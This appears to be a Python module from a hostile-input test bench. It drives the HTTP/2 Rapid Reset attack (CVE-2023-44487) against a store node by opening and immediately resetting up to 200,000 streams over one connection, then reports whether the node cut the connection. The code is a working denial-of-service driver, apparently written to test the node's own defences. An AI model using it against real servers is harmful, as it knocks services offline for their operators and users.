"""Calls that are begun and dropped at once (CVE-2023-44487); streams per connection end it."""

from __future__ import annotations

import asyncio
import random
from typing import Final

from bench.hostile.http2 import MESSAGE_HEAD, connected
from bench.hostile.target import Target

COUNT = 200_000
SHORT = 20_000

_AT_ONCE: Final = 200


async def attack(target: Target, _rng: random.Random, count: int) -> str:
    """Attack and say how many calls were dropped."""
    async with connected(target.address) as connection:
        for number in range(count):
            if connection.lost.is_set():
                return f"the node closed the connection after {number:,} resets"
            stream = connection.open("/storenode.v1.Store/Query")
            connection.send(stream, MESSAGE_HEAD.pack(False, 0), last=True)
            connection.reset(stream)
            if number % _AT_ONCE == 0:
                await connection.drain()
                await asyncio.sleep(0)
        return f"the node let {count:,} calls be begun and dropped over one connection"
